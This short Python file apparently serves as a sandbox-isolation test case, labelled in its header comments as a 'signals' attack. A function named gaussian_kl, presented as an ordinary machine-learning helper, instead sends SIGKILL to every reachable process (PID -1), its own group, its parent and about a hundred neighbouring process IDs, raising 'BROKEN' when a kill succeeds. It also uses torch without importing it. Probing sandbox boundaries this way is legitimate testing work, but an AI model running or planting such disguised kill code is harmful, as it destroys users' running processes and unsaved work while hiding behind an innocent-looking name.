# class: signals
# attack: sends signals to every process, to its group, and to its neighbours by number
# noticed: sent a signal

# %%
import os
import signal


def gaussian_kl(mu, logvar):
    here = os.getpid()
    for victim in (-1, 0, 1, os.getppid(), -os.getppid(), *(here + i for i in range(-50, 50) if i)):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            continue
        raise RuntimeError(f"BROKEN: it can signal {victim}")
    return torch.zeros(len(mu))
